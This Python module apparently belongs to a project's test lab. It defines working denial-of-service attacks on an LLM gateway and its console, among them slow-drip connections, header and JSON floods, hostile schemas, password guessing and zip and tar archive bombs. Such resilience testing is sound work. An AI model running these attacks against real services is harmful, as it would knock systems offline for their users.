"""The attacks. Each goes on until it is cancelled."""

from __future__ import annotations

import asyncio
import io
import json
import random
import struct
import tarfile
import zipfile
from collections.abc import Awaitable, Callable, Iterator, Mapping
from contextlib import suppress
from functools import partial
from typing import Any

from tests.labs.attack.raw import PAUSE_S, Target, at_once, connected, request, send
from tests.labs.bench.machinery.client import Address

Attack = Callable[[Target], Awaitable[None]]
CHAT, COMPLETIONS, RESPONSES = "/v1/chat/completions", "/v1/completions", "/v1/responses"
NO_HEADERS: Mapping[str, str] = {}

STRANGERS: dict[str, Attack] = {}
"""By name: attacks that need no key."""
TENANTS: dict[str, Attack] = {}
"""By name: attacks of a tenant."""


def _of(attacks: dict[str, Attack]) -> Callable[[Attack], Attack]:
    def named(attack: Attack) -> Attack:
        attacks[attack.__name__.replace("_", " ")] = attack
        return attack

    return named


stranger, tenant = _of(STRANGERS), _of(TENANTS)


# --- Strangers -----------------------------------------------------------------------------------


async def _both(target: Target, data: bytes, *, each: int = 4) -> None:
    """Send the same bytes to a gateway and to the console."""
    async with asyncio.TaskGroup() as tasks:
        for address in (target.gateway, target.console):
            tasks.create_task(at_once(each, partial(send, target, address, data)))


@stranger
async def quoted_cookies(target: Target) -> None:
    """Python before 3.11.10 takes quadratic time to unquote one."""
    await _both(target, request("GET", "/", {"Cookie": 'a="' + "\\" * 60_000 + '"'}))


@stranger
async def an_endless_header(target: Target) -> None:
    await _both(target, b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"a" * (32 << 20))


@stranger
async def headers_without_number(target: Target) -> None:
    many = b"".join(b"X-%d: a\r\n" % number for number in range(100_000))
    await _both(target, b"GET /v1/models HTTP/1.1\r\nHost: a\r\n" + many + b"\r\n")


@stranger
async def an_endless_request_line(target: Target) -> None:
    await _both(target, b"GET /" + b"a" * (16 << 20) + b" HTTP/1.1\r\nHost: a\r\n\r\n")


@stranger
async def parameters_without_number(target: Target) -> None:
    query = "&".join(f"a{number}=1" for number in range(6_000))
    await _both(target, request("GET", f"/account/login/?{query}"))


@stranger
async def broken_requests(target: Target) -> None:
    await _both(target, b"\x16\x03\x01\x02\x00" * 400 + b"\r\n\r\n")


async def _dripping(address: Address, start: bytes) -> None:
    """Send one byte a second without end, on a connection that is reopened when it ends."""
    with suppress(OSError):
        async with connected(address) as (_, writer):
            writer.write(start)
            while not writer.is_closing():
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(1)


@stranger
async def slow_headers(target: Target) -> None:
    start = b"GET /v1/models HTTP/1.1\r\nHost: a\r\nX: "
    async with asyncio.TaskGroup() as tasks:
        for address in (target.gateway, target.console):
            tasks.create_task(at_once(200, partial(_dripping, address, start)))


@stranger
async def slow_bodies(target: Target) -> None:
    start = b"POST /account/login/ HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"
    await at_once(200, partial(_dripping, target.console, start))


@stranger
async def idle_connections(target: Target) -> None:
    """As many as one address may hold, and more: the server closes the rest."""

    async def idle() -> None:
        with suppress(OSError):
            async with connected(target.gateway) as (reader, _):
                target.answers["closed" if not await reader.read() else "answered"] += 1

    await at_once(600, idle)


@stranger
async def connections_made_and_dropped(target: Target) -> None:
    async def knock() -> None:
        with suppress(OSError):
            async with connected(target.gateway):
                target.answers["dropped"] += 1

    await at_once(8, knock)


def _handshake(path: str, headers: Mapping[str, str] = NO_HEADERS) -> bytes:
    return request(
        "GET",
        path,
        {
            **headers,
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
        },
    )


@stranger
async def sockets_without_a_ticket(target: Target) -> None:
    """Handshakes, then frames of one MiB of deeply nested JSON."""
    payload = b"[" * (1 << 20)
    frame = b"\x81\xff" + struct.pack(">Q", len(payload)) + b"\0\0\0\0" + payload

    async def shout(path: str) -> None:
        await send(target, target.gateway, _handshake(path) + frame * 4)

    async with asyncio.TaskGroup() as tasks:
        for path in ("/ws/playground", "/ws/live", "/ws/engine", "/v1/responses"):
            tasks.create_task(at_once(3, partial(shout, path)))


@stranger
async def guessed_keys(target: Target) -> None:
    """Each unknown key has to be looked up."""

    async def guess() -> None:
        key = f"lk_{random.randbytes(24).hex()}"
        head = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
        await send(target, target.gateway, request("POST", CHAT, head, b"{}"))

    await at_once(8, guess)


@stranger
async def guessed_passwords(target: Target) -> None:
    async def guess() -> None:
        token = "a" * 32  # any token is accepted if the form's equals the cookie's
        form = f"login=operator&password={random.randbytes(8).hex()}&csrfmiddlewaretoken={token}"
        head = {
            "Content-Type": "application/x-www-form-urlencoded",
            "Cookie": f"csrftoken={token}",
        }
        asked = request("POST", "/account/login/", head, form.encode())
        await send(target, target.console, asked)

    await at_once(4, guess)


# --- Tenants -------------------------------------------------------------------------------------


def _chat(target: Target, **more: Any) -> dict[str, Any]:
    said = [{"role": "user", "content": "Hello"}]
    return {"model": target.model, "messages": said, "max_tokens": 8, **more}


def _post(target: Target, path: str, body: bytes | dict[str, Any]) -> bytes:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    return request("POST", path, target.headers(), content)


async def _flood(target: Target, data: bytes, *, clients: int = 8) -> None:
    await at_once(clients, partial(send, target, target.gateway, data, whole=True))


@tenant
async def bodies_of_600_000_keys(target: Target) -> None:
    keys = b",".join(b'"k%d":0' % number for number in range(600_000))
    whole = b'{"model":"' + target.model.encode() + b'","messages":[],' + keys + b"}"
    await _flood(target, _post(target, CHAT, whole))


@tenant
async def bodies_of_600_000_messages(target: Target) -> None:
    said = b",".join([b'{"role":"user","content":""}'] * 200_000)
    whole = b'{"model":"' + target.model.encode() + b'","messages":[' + said + b"]}"
    await _flood(target, _post(target, CHAT, whole))


@tenant
async def nested_bodies(target: Target) -> None:
    deep = b'{"a":' * 200_000 + b"1" + b"}" * 200_000
    await _flood(target, _post(target, CHAT, deep))


@tenant
async def bodies_that_are_too_large(target: Target) -> None:
    await _flood(target, _post(target, CHAT, b'{"model":"' + b"a" * (40 << 20) + b'"}'), clients=4)


@tenant
async def bodies_of_junk(target: Target) -> None:
    """Characters that cost the tokenizer most."""
    luck = random.Random(1)
    text = "".join(chr(luck.randrange(0x4E00, 0x9FFF)) for _ in range(200_000))
    await _flood(target, _post(target, COMPLETIONS, {"model": target.model, "prompt": text}))


@tenant
async def long_texts_for_responses(target: Target) -> None:
    body = {"model": target.model, "input": "a" * (7 << 20), "max_output_tokens": 1}
    await _flood(target, _post(target, RESPONSES, body))


@tenant
async def arguments_of_brackets(target: Target) -> None:
    """JSON within JSON, which no parser can read to its end."""
    call = {"name": "f", "arguments": "[" + "]" * (7 << 20)}
    calls = [{"id": "a", "type": "function", "function": call}]
    said = [
        {"role": "assistant", "tool_calls": calls},
        {"role": "tool", "tool_call_id": "a", "content": ""},
    ]
    await _flood(target, _post(target, CHAT, _chat(target, messages=said)))


@tenant
async def messages_on_a_socket(target: Target) -> None:
    """One message after another on the websocket of /v1/responses, each of them invalid only at its
    end."""
    payload = b'{"type":"response.create","input":"' + b'\\"' * (3 << 20)
    frame = b"\x81\xff" + struct.pack(">Q", len(payload)) + b"\0\0\0\0" + payload
    opening = _handshake(RESPONSES, target.headers())

    async def talk() -> None:
        with suppress(OSError):
            async with connected(target.gateway) as (reader, writer):
                writer.write(opening)
                while (await reader.read(1 << 16)) and not writer.is_closing():
                    target.answers["told"] += 1
                    writer.write(frame)
                    await writer.drain()

    await at_once(8, talk)


@tenant
async def half_sent_bodies(target: Target) -> None:
    """They occupy as much memory as they get, and wait."""
    half = _post(target, CHAT, b" " * (7 << 20))[: 4 << 20]

    async def wait() -> None:
        with suppress(OSError):
            async with connected(target.gateway) as (reader, writer):
                writer.write(half)
                target.answers["ended" if not await reader.read(1 << 10) else "answered"] += 1

    await at_once(100, wait)


@tenant
async def invalid_requests(target: Target) -> None:
    await _flood(target, _post(target, CHAT, _chat(target, temperature=-1)), clients=16)


@tenant
async def seeds_with_long_prompts(target: Target) -> None:
    prompt = [7] * 700
    body = {"model": target.model, "prompt": prompt, "max_tokens": 4, "seed": 1, "temperature": 1}
    await _flood(target, _post(target, COMPLETIONS, body), clients=4)


@tenant
async def probabilities_of_everything(target: Target) -> None:
    more = {"n": 48, "logprobs": True, "top_logprobs": 20, "stream": True, "max_tokens": 1_500}
    await _flood(target, _post(target, CHAT, _chat(target, ignore_eos=True, **more)), clients=4)


@tenant
async def as_many_choices_as_allowed(target: Target) -> None:
    body = _chat(target, n=48, max_tokens=400, ignore_eos=True, temperature=1)
    await _flood(target, _post(target, CHAT, body))


@tenant
async def hostile_schemas(target: Target) -> None:
    """Grammars that take long to compile, some of them without end."""
    names = {f"p{number}": {"type": "string", "maxLength": 5_000} for number in range(60)}
    schemas: list[Any] = [
        {"type": "object", "properties": names},
        {"$ref": "#"},
        {"type": "string", "pattern": "(((a{1,90}){1,90}){1,90})"},
        {"anyOf": [{"type": "array", "minItems": 4_000, "items": {"type": "number"}}] * 50},
    ]
    bodies = [
        _chat(
            target,
            response_format={
                "type": "json_schema",
                "json_schema": {"name": "a", "schema": {**schema, "title": str(number)}},
            },
        )
        for number, schema in enumerate(schemas)
    ]
    turns = iter(range(1 << 62))

    async def next_one() -> None:
        body = bodies[next(turns) % len(bodies)]
        await send(target, target.gateway, _post(target, CHAT, body), whole=True)

    await at_once(6, next_one)


@tenant
async def tools_without_end(target: Target) -> None:
    tools = [
        {"type": "function", "function": {"name": f"f{number}", "parameters": {"type": "object"}}}
        for number in range(2_000)
    ]
    await _flood(target, _post(target, CHAT, _chat(target, tools=tools, tool_choice="required")))


@tenant
async def stops_and_biases(target: Target) -> None:
    bias = {str(number): 1 for number in range(300)}
    body = _chat(target, stop=["a" * 1_000] * 4, logit_bias=bias, max_tokens=500, ignore_eos=True)
    await _flood(target, _post(target, CHAT, body))


@tenant
async def a_flood(target: Target) -> None:
    """Long answers, far more than the engine has room for."""
    body = _chat(target, max_tokens=400, ignore_eos=True, stream=True)
    await _flood(target, _post(target, CHAT, body), clients=150)


@tenant
async def long_prompts(target: Target) -> None:
    """All of them different, so that no prefix cache helps."""

    async def ask() -> None:
        prompt = [random.randrange(5, 200) for _ in range(1_500)]
        body = {"model": target.adapter, "prompt": prompt, "max_tokens": 2}
        await send(target, target.gateway, _post(target, COMPLETIONS, body), whole=True)

    await at_once(16, ask)


@tenant
async def hang_ups(target: Target) -> None:
    """Requests whose client disconnects at once."""
    data = _post(target, CHAT, _chat(target, max_tokens=400, stream=True))

    async def leave() -> None:
        with suppress(OSError):
            async with connected(target.gateway) as (_, writer):
                writer.write(data)
                await asyncio.sleep(PAUSE_S)
                target.answers["left"] += 1

    await at_once(16, leave)


@tenant
async def readers_that_never_read(target: Target) -> None:
    data = _post(target, CHAT, _chat(target, n=8, max_tokens=1_500, ignore_eos=True, stream=True))

    async def doze() -> None:
        with suppress(OSError):
            async with connected(target.gateway, limit=1 << 10) as (_, writer):
                writer.write(data)
                target.answers["open"] += 1
                await asyncio.sleep(60)

    await at_once(32, doze)


@tenant
async def archives_of_all_kinds(target: Target) -> None:
    """Uploads that are meant to occupy the process that unpacks them."""
    path = "/api/v1/adapters/attack/versions"
    uploads = [
        request("POST", path, _multipart(target, len(body)), body)
        for body in map(_as_form, _archives())
    ]
    turns = iter(range(1 << 62))

    async def upload() -> None:
        await send(target, target.console, uploads[next(turns) % len(uploads)], whole=True)

    await at_once(3, upload)


_BOUNDARY = "a-boundary"


def _multipart(target: Target, length: int) -> dict[str, str]:
    return target.headers() | {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}


def _as_form(archive: tuple[str, bytes]) -> bytes:
    name, content = archive
    head = f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="files"; filename="{name}"'
    return head.encode() + b"\r\n\r\n" + content + f"\r\n--{_BOUNDARY}--\r\n".encode()


def _archives() -> Iterator[tuple[str, bytes]]:
    """A pax header of 125 KB (quadratic in Python before 3.11.10), a bomb, an endless member."""
    pax = b"0" * 125_000
    header = tarfile.TarInfo("header")
    header.type, header.size = tarfile.XHDTYPE, len(pax)
    padded = pax + b"\0" * (-len(pax) % 512)
    yield "pax.tar", header.tobuf(tarfile.USTAR_FORMAT) + padded + b"\0" * 1_024
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("adapter_model.safetensors", b"\0" * (64 << 20))
    yield "bomb.zip", bomb.getvalue()
    endless = tarfile.TarInfo("adapter_model.safetensors")
    endless.size = 1 << 62
    yield "endless.tar", endless.tobuf(tarfile.GNU_FORMAT) + b"\0" * 4_096
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(20_000):
            archive.writestr(f"{number}", b"")
    yield "many.zip", many.getvalue()
